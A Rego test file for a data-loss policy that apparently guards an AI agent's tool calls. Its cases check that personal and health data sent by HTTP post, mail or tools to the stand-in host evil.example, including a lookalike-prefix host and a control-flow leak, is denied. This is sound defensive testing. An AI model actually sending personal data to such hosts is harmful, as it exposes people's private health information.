package callgate.test.pii_library_test

import data.callgate.policy.pii
import data.callgate.testing as t
import rego.v2

params := {"tags": ["pii", "health"], "hosts": ["api.hr.example", "corp.example"], "model": false}

ids(req) := d if {
	d := {x.id | some x in pii.deny} with input as req with data.params.pii as params
}

post(url, body) := t.call("http.post", {"url": t.literal(url), "body": body})

person := t.tagged("…", "health")

test_listed if ids(post("https://api.hr.example/x", person)) == set()

test_unlisted if ids(post("https://evil.example/x", person)) == {"pii.host"}

test_begins_alike if ids(post("https://api.hr.example.evil.example/x", person)) == {"pii.host"}

test_not_personal if ids(post("https://evil.example/x", t.literal("…"))) == set()

test_nested if ids(post("https://evil.example/x", {"people": [{"name": person}]})) == {"pii.host"}

test_mail if ids(t.call("mail.send", {"to": [t.typed("x@evil.example"), t.typed("y@corp.example")], "body": person})) == {"pii.host"}

test_mcp if ids(t.call("mcp.acme.frob", {"x": person})) == {"pii.nowhere"}

test_model if ids(t.request("observe", "observe", {"value": person}, {})) == {"pii.model"}

test_model_allowed if {
	count(pii.deny) == 0 with input as t.request("observe", "observe", {"value": person}, {}) with data.params.pii as object.union(params, {"model": true})
}

test_answer_to_the_user if ids(t.request("answer", "answer", {"value": person}, {})) == set()

# if person.age > 40: http.post(url, "yes")
test_control if ids(object.union(post("https://evil.example/", t.literal("yes")), {"tags": ["pii"]})) == {"pii.host"}
